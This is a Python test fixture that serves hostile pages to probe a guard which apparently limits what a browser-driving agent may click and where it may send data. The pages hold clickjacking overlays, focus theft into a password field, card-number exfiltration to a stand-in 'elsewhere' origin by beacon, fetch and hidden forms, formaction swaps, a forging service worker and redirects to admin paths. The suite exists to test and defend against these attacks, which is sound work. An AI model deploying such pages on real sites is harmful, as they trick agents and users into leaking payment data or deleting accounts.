"""Attack probes' two origins and their pages (``test_attacks_network``, ``test_attacks_dom``).

Two loopback origins: ``home`` (``127.0.0.1``, the only one granted) and ``elsewhere``
(``localhost``, another port: another origin and another site), each counting every request
it receives. Each probe asserts the safe behaviour; the eleven that failed when they were
written (found by trying them) pass since the guard was fixed.
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

from handrail.executor import Outcome, Session
from handrail.recorder import Ledger
from tests.conftest import AgentSetup, Stack
from tests.executor.channel import ACK, EVENTS, Commands

NOT_STARTED = (Outcome.REFUSED, Outcome.FAILED)

_QUIET = (EVENTS, ACK, "/favicon.ico")


class Origins:
    """Two origins on loopback; every request each one receives is kept, in order.

    Pages are HTML templates in which ``HOME`` and ``ELSE`` stand for the two base URLs.
    """

    def __init__(self, home: dict[str, str], elsewhere: dict[str, str]) -> None:
        self.pages = {"home": home, "elsewhere": elsewhere}
        self.seen: list[tuple[str, str, str, str]] = []  # (origin, method, path, body)
        self.urls = {"home": "", "elsewhere": ""}
        self.channel = Commands()  # the home pages hear it
        self._cond = self.channel.cond  # guards ``seen`` too
        self._servers: list[ThreadingHTTPServer] = []

    @property
    def home(self) -> str:
        return self.urls["home"]

    @property
    def elsewhere(self) -> str:
        return self.urls["elsewhere"]

    def reached(self, origin: str, method: str = "", path: str = "") -> list[tuple[str, str, str, str]]:
        with self._cond:
            return [
                r for r in self.seen if r[0] == origin and (not method or r[1] == method) and (not path or r[2] == path)
            ]

    def settled(self, origin: str, method: str = "", path: str = "", wait_s: float = 1.0) -> list[Any]:
        """What reached ``origin`` once a request of that kind came, or ``wait_s`` passed."""
        deadline = time.monotonic() + wait_s
        while not self.reached(origin, method, path) and time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(0.1)
        return self.reached(origin, method, path)

    def run_js(self, code: str, timeout: float = 10.0) -> None:
        self.channel.run_js(code, timeout=timeout)

    def _page(self, origin: str, path: str) -> str | None:
        page = self.pages[origin].get(path)
        if page is None:
            return None
        page = page.replace("HOME", self.home).replace("ELSE", self.elsewhere)
        if origin == "home" and not path.endswith(".js"):
            page += self.channel.script()
        return page

    def start(self) -> Origins:
        for origin, host in (("home", "127.0.0.1"), ("elsewhere", "localhost")):
            server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self, origin))
            server.daemon_threads = True
            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
            self._servers.append(server)
            self.urls[origin] = f"http://{host}:{server.server_address[1]}"
        return self

    def stop(self) -> None:
        self.channel.stop()
        for server in self._servers:
            server.shutdown()
            server.server_close()


def _handler(site: Origins, origin: str) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def _send(self, code: int, body: str) -> None:
            data = body.encode()
            self.send_response(code)
            path, query = urlsplit(self.path)[2:4]
            js = path.endswith(".js")
            self.send_header("Content-Type", "text/javascript" if js else "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            if path == "/shop/strict-csp":  # what many sites send
                self.send_header("Content-Security-Policy", "connect-src 'self'; worker-src 'self' blob: data:")
            if path == "/shop/trusted-types":  # script URLs only from a policy
                named = parse_qs(query).get("policies", [""])[0]  # only these may be made
                csp = "require-trusted-types-for 'script'" + (f"; trusted-types {named}" if named else "")
                self.send_header("Content-Security-Policy", csp)
            self.end_headers()
            self.wfile.write(data)

        def _note(self, method: str, body: str) -> str:
            path = urlsplit(self.path).path
            if path not in _QUIET:
                with site._cond:
                    site.seen.append((origin, method, path, body))
            return path

        def do_GET(self) -> None:
            query = urlsplit(self.path).query
            path = self._note("GET", query)
            if path == EVENTS:
                site.channel.stream(self, query)
                return
            page = site._page(origin, path)
            self._send(200, page) if page is not None else self._send(404, "not found")

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            path = self._note("POST", body)
            if path == ACK:
                site.channel.ack(urlsplit(self.path).query)
                self._send(204, "")
                return
            if path in REDIRECTS:
                self.send_response(303)
                self.send_header("Location", REDIRECTS[path])
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            self._send(200, "<!doctype html><title>Done</title><h1>Done</h1>")

        def do_HEAD(self) -> None:
            self._note("HEAD", "")
            self._send(200, "")

    return Handler


#: Posts the home origin answers with a redirect (303, to the path given).
REDIRECTS = {"/shop/moved": "/admin/panel?via=redirect", "/shop/kept": "/shop/thanks"}


def _doc(title: str, body: str) -> str:
    return f"<!doctype html><html><head><title>{title}</title></head><body><main>{body}</main></body></html>"


# -- the pages --------------------------------------------------------------------------

HOME: dict[str, str] = {
    # 1. A granted page embeds a widget of an origin nobody granted.
    "/frame": _doc("Shop", "<h1>Shop</h1><iframe title=Widget src='ELSE/widget' width=500 height=300></iframe>"),
    # 6. Ways a click on an in-scope control sends a request to another origin, with no
    # document load the gate would hold.
    "/out": _doc(
        "Out",
        "<h1>Out</h1><p id=said>idle</p>"
        "<button onclick=\"navigator.sendBeacon('ELSE/collect', 'card=4242');"
        " document.getElementById('said').textContent = 'beaconed'\">Save by beacon</button>"
        "<button onclick=\"fetch('ELSE/collect', {method: 'POST', mode: 'no-cors', body: 'card=4242'});"
        " document.getElementById('said').textContent = 'fetched'\">Save by fetch</button>"
        "<p><a href='/inside' ping='ELSE/ping'>Inside page</a></p>"
        # a form posted into a hidden child frame: a child frame's document is not gated
        "<iframe name=sink title=Sink style='width:1px;height:1px;border:0'></iframe>"
        "<form id=hidden method=post action='ELSE/collect' target=sink>"
        "<input type=hidden name=card value=4242></form>"
        "<button type=button onclick=\"document.getElementById('hidden').submit();"
        " document.getElementById('said').textContent = 'posted'\">Save by frame</button>"
        "<form method=post action='ELSE/collect' target=sink><input type=hidden name=card value=4242>"
        "<button>Send into the frame</button></form>",
    ),
    "/inside": _doc("Inside", "<h1>Inside</h1>"),
    # 6d. A service worker, which could answer a navigation with no request the gate sees.
    "/worker": _doc(
        "Worker",
        "<h1>Worker</h1><p id=said role=status>pending</p><script>"
        "function said(t) { document.getElementById('said').textContent = t; }"
        "if (!navigator.serviceWorker) said('no service workers'); else "
        "navigator.serviceWorker.register('/sw.js').then(function () { said('registered'); },"
        " function (e) { said('refused: ' + e.name); });</script>",
    ),
    "/sw.js": "self.addEventListener('fetch', function (e) {"
    " e.respondWith(new Response('<title>Forged</title><h1>Forged</h1>', {headers: {'Content-Type': 'text/html'}})); });",
    # 2. Clickjacking by CSS: an invisible "Delete account" laid over a visible "Save".
    "/jack": _doc(
        "Jack",
        "<h1>Settings</h1><div style='position:relative;width:300px;height:60px'>"
        "<form method=post action='/save'><button style='position:absolute;left:0;top:0;width:200px;"
        "height:40px'>Save</button></form>"
        "<form method=post action='/close'><button style='position:absolute;left:0;top:0;width:200px;"
        "height:40px;opacity:0'>Delete account</button></form></div>",
    ),
    # 2b. The visible "Save" lets the pointer through to a transparent "Delete account".
    "/jack-through": _doc(
        "Jack",
        "<h1>Settings</h1><div style='position:relative;width:300px;height:60px'>"
        "<form method=post action='/close'><button style='position:absolute;left:0;top:0;width:200px;"
        "height:40px;opacity:0.01'>Delete account</button></form>"
        "<form method=post action='/save'><button style='position:absolute;left:0;top:0;width:200px;"
        "height:40px;pointer-events:none'>Save</button></form></div>",
    ),
    # 3a. A confirmation whose "Yes" sits in a (non-modal) dialog "Close your account?", below
    # the fold; MODE: in the light DOM, or in an open or a closed shadow root (below).
    "/dialog-MODE": _doc(
        "Account",
        "<h1>Account</h1><div style='height:1500px'></div>"
        "<div role=dialog aria-label='Close your account?'><p>All your data will be erased.</p>"
        "<x-confirm></x-confirm></div>"
        "<script>var YES = '<form method=post action=/close><input type=hidden name=close value=yes>"
        "<button>Yes</button></form>';"
        "customElements.define('x-confirm', class extends HTMLElement { connectedCallback() {"
        " if ('MODE' === 'light') { this.innerHTML = YES; return; }"
        " if (!this.shadowRoot) this.attachShadow({mode: 'MODE'}).innerHTML = YES; } });</script>",
    ),
    # 3b. A plans table inside a shadow root, below the fold; the rows get re-painted by index
    # (run_js).
    "/shadow-rows": _doc(
        "Plans",
        "<h1>Plans</h1><div style='height:1500px'></div><x-plans></x-plans><script>"
        "customElements.define('x-plans', class extends HTMLElement { constructor() { super();"
        " const root = this.attachShadow({mode: 'open'});"
        " root.innerHTML = '<table><tbody>' + ['E', 'F', 'G'].map(function (p) {"
        " return '<tr><td>Plan ' + p + '</td><td><form method=post action=/cancel>"
        "<input type=hidden name=plan value=' + p + '><button>Cancel</button></form></td></tr>'; }).join('')"
        " + '</tbody></table>'; window.plansRoot = root; } });"
        "window.repaint = function () { var rows = window.plansRoot.querySelectorAll('tr');"
        " var names = ['F', 'G', 'E']; rows.forEach(function (row, i) {"
        " row.cells[0].firstChild.nodeValue = 'Plan ' + names[i];"
        " row.querySelector('input').value = names[i]; }); };</script>",
    ),
    # 3c. In view: a "Save" inside an open shadow root (nothing covers it), and a light-DOM
    # "Publish" slotted into a shadow root that draws a transparent veil over it.
    "/shadow-view": _doc(
        "Settings",
        "<h1>Settings</h1><x-save></x-save><x-veil><button>Publish</button></x-veil><script>"
        "customElements.define('x-save', class extends HTMLElement { constructor() { super();"
        " this.attachShadow({mode: 'open'}).innerHTML = '<form method=post action=/save>"
        "<input type=hidden name=saved value=yes><button>Save</button></form>'; } });"
        "customElements.define('x-veil', class extends HTMLElement { constructor() { super();"
        " this.attachShadow({mode: 'open'}).innerHTML = '<div style=\"position:relative;display:inline-block\">"
        '<slot></slot><form method=post action=/close style="position:absolute;inset:0;margin:0">'
        '<button style="width:100%;height:100%;opacity:0">Delete</button></form></div>\'; } });</script>',
    ),
    # 4. Focus theft: the page moves the focus to another field on the first key, or on focus.
    "/steal": _doc(
        "Profile",
        "<h1>Profile</h1><form method=post action='/save' aria-label=Profile>"
        "<label>Nickname <input id=nick name=nick></label></form>"
        "<form method=post action='ELSE/collect' aria-label=Login>"
        "<label>Password <input id=pw name=pw type=password></label></form>"
        "<script>var nick = document.getElementById('nick'), pw = document.getElementById('pw');"
        "var how = location.hash.slice(1);"
        "nick.addEventListener('keydown', function () { if (how === 'keydown') pw.focus(); });"
        "nick.addEventListener('focus', function () { if (how === 'focus') pw.focus(); });</script>",
    ),
    # 5. The button's target is switched by the page's own pointerdown handler, after the check.
    "/shop/profile": _doc(
        "Profile",
        "<h1>Profile</h1>"
        "<form id=save method=post action='/shop/save' aria-label=Profile>"
        "<input type=hidden name=nick value=ada><button id=b>Save</button></form>"
        "<form id=close method=post action='/admin/close-account'><input type=hidden name=close value=yes></form>"
        "<script>var how = location.hash.slice(1), b = document.getElementById('b');"
        "b.addEventListener('pointerdown', function () {"
        " if (how === 'formaction') b.setAttribute('formaction', '/admin/close-account');"
        " if (how === 'form') b.setAttribute('form', 'close');"
        " if (how === 'formaction-out') b.setAttribute('formaction', 'ELSE/collect'); });</script>",
    ),
    # 6b. Implicit submission: Enter in a search field posts through the form's default
    # button, whose formaction goes elsewhere than the form's action (HTML only, no script).
    "/shop/search": _doc(
        "Search",
        "<h1>Search</h1><form method=get action='/shop/results' aria-label=Search>"
        "<button formaction='/admin/close-account' formmethod=post style='display:none'>Go</button>"
        "<label>Query <input name=q></label></form>",
    ),
    # 6e. During an allowed action on /shop/, the page itself goes to another path of the
    # same origin: by script (a navigation, a form it builds and posts) or by the server's
    # redirect of the action's own post. A grant of /shop/* covers none of them.
    "/shop/jump": _doc(
        "Jump",
        "<h1>Jump</h1><button onclick=\"location.href = '/admin/panel?via=script'\">Next</button>",
    ),
    "/shop/post": _doc(
        "Post",
        "<h1>Post</h1><button type=button onclick=\"var f = document.createElement('form');"
        " f.method = 'post'; f.action = '/admin/close-account'; document.body.append(f); f.submit()\">"
        "Save</button>",
    ),
    "/shop/moved-form": _doc(
        "Moved",
        "<h1>Moved</h1><form method=post action='/shop/moved' aria-label=Profile>"
        "<input type=hidden name=nick value=ada><button>Save</button></form>",
    ),
    # A form on /shop/ whose own action is outside it (no script): its effect, judged.
    "/shop/out-form": _doc(
        "Out form",
        "<h1>Out form</h1><form method=post action='/admin/close-account' aria-label=Profile>"
        "<input type=hidden name=close value=yes><button>Save</button></form>",
    ),
    # ... and one whose action stays in /shop/ (it must post, under a single-use grant too).
    "/shop/pay-form": _doc(
        "Pay form",
        "<h1>Pay form</h1><form method=post action='/shop/pay' aria-label=Payment>"
        "<input type=hidden name=amount value=10><button>Pay</button></form>",
    ),
    # ... and the same post answered by a redirect that stays in /shop/ (it must load).
    "/shop/kept-form": _doc(
        "Kept",
        "<h1>Kept</h1><form method=post action='/shop/kept' aria-label=Profile>"
        "<input type=hidden name=nick value=ada><button>Save</button></form>",
    ),
    "/shop/thanks": _doc("Thanks", "<h1>Thanks</h1>"),
    "/shop/strict-csp": _doc("Strict", "<h1>Strict</h1>"),
    # A page under Trusted Types makes its workers from its own policy's script URLs: one
    # of its own origin, one of a Blob, one of data:; a plain string is refused (TypeError)
    # with or without Handrail. What each worker said goes to the title.
    "/shop/trusted-types": _doc(
        "Trusted",
        "<h1>Trusted</h1><script>"
        "const policy = trustedTypes.createPolicy('app', {createScriptURL: (u) => u});"
        " const code = 'postMessage(typeof WebTransport)'; const seen = {};"
        " const said = (name) => (e) => { seen[name] = e.data; document.title = JSON.stringify(seen); };"
        " const made = {"
        "  http: () => new Worker(policy.createScriptURL('/shop/strict-worker.js')),"
        "  blob: () => new Worker(policy.createScriptURL(URL.createObjectURL(new Blob([code])))),"
        "  data: () => new Worker(policy.createScriptURL('data:text/javascript,' + encodeURIComponent(code))),"
        "  plain: () => new Worker('/shop/strict-worker.js'),"
        "  lying: () => {"  # the type's toString patched to name another URL while it is made
        "   const url = policy.createScriptURL('/shop/strict-worker.js?lying');"
        "   const real = TrustedScriptURL.prototype.toString;"
        "   TrustedScriptURL.prototype.toString = () => '/shop/thanks';"
        "   try { return new Worker(url); } finally { TrustedScriptURL.prototype.toString = real; } },"
        " };"
        " for (const [name, make] of Object.entries(made)) {"
        "  try { make().onmessage = said(name); }"
        "  catch (e) { seen[name] = e.name; document.title = JSON.stringify(seen); } }"
        "</script>",
    ),
    # Worker scripts (test_attacks_egress.py): one that opens a WebTransport in its very first
    # task, to the port its own URL names; one that says what it sees of itself.
    "/shop/transport-worker.js": (
        "new WebTransport('https://127.0.0.1:' + new URLSearchParams(location.search).get('port') + '/x')"
        ".ready.catch(() => {});"
    ),
    "/shop/module-worker.js": "import './transport-module.js';",
    "/shop/transport-module.js": (
        "new WebTransport('https://127.0.0.1:' + new URLSearchParams(self.location.search).get('port') + '/x')"
        ".ready.catch(() => {});"
    ),
    "/shop/strict-worker.js": (
        "// a worker of the page's own\n'use strict';\n"
        "postMessage(JSON.stringify({strict: (function () { return this === undefined; })(),"
        " href: location.href, transport: typeof WebTransport, worker: typeof Worker}));"
    ),
    # A line comment ended by a carriage return, as JavaScript ends it: what follows is code.
    "/shop/cr-worker.js": "// a comment\rpostMessage(typeof WebTransport)\n",
    "/shop/bom-worker.js": (  # a byte order mark first, as some build tools write
        "\ufeff'use strict';\npostMessage(JSON.stringify({strict: (function () { return this === undefined; })(),"
        " transport: typeof WebTransport}));"
    ),
    "/admin/panel": _doc("Admin", "<h1>Admin</h1>"),
    # 6c. A label forwards its activation to the control it is for (HTML only, no script):
    # the cited "Save draft" is a span in a label for a "Delete account" button.
    "/label": _doc(
        "Drafts",
        "<h1>Drafts</h1><label for=del><span role=button tabindex=0>Save draft</span></label>"
        "<form method=post action='/close'><input type=hidden name=close value=yes>"
        "<button id=del aria-label='Delete account' style='position:absolute;left:-9999px'>Delete account</button>"
        "</form>",
    ),
}

# The same rows, in a root attached through another window's attachShadow (a frame's
# prototype, which the page's own init script did not wrap).
HOME["/shadow-rows-foreign"] = HOME["/shadow-rows"].replace(
    "const root = this.attachShadow({mode: 'open'});",
    "const f = document.createElement('iframe'); f.hidden = true; document.body.append(f);"
    " const root = f.contentWindow.Element.prototype.attachShadow.call(this, {mode: 'open'});",
)

for _mode in ("light", "open", "closed"):
    HOME[f"/dialog-{_mode}"] = HOME["/dialog-MODE"].replace("'MODE'", f"'{_mode}'")
del HOME["/dialog-MODE"]

ELSEWHERE: dict[str, str] = {
    "/widget": _doc(
        "Widget",
        "<h2>Widget</h2><p id=said>idle</p>"
        "<button onclick=\"fetch('/collect', {method: 'POST', body: 'card=4242'})"
        ".then(function () { document.getElementById('said').textContent = 'paid'; })\">Pay in widget</button>"
        "<form method=post action='/collect'><input type=hidden name=card value=4242>"
        "<button>Send card</button></form>"
        "<label>Card number <input id=card oninput=\"fetch('/collect', {method: 'POST', body: this.value})\">"
        "</label>",
    ),
}


def open_probe(
    stack: Stack,
    agent: AgentSetup,
    origins: Origins,
    path: str,
    verbs: tuple[str, ...] = ("input", "submit", "navigate"),
    **scope: Any,
) -> Session:
    with stack.operator_client() as ops:
        ops.grant(agent.principal.name, agent.target, list(verbs), [origins.home], **scope)
    session = agent.client.open_session(target=agent.target, start_url=origins.home + path)
    session.observe()
    return session


def entries(stack: Stack, session: Session, kind: str) -> list[dict[str, Any]]:
    with Ledger(stack.data_dir / "ledger.sqlite") as ledger:
        return [dict(e.body) for e in ledger.entries(session_id=session.session_id, kind=kind)]


def frame_ready(session: Session, role: str, name: str, wait_s: float = 5.0) -> str:
    """The ref of (role, name) once the observation shows it (a child frame loads late)."""
    deadline = time.monotonic() + wait_s
    while True:
        session.observe()
        try:
            return session.find(role, name)
        except LookupError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.1)


def posts_elsewhere(origins: Origins, before: int) -> list[Any]:
    return [r for r in origins.reached("elsewhere") if r[1] != "GET"][before:]


def home_posts(origins: Origins, before: int) -> list[Any]:
    return [p for p in origins.reached("home", "POST")[before:] if p[2] != "/__ack"]
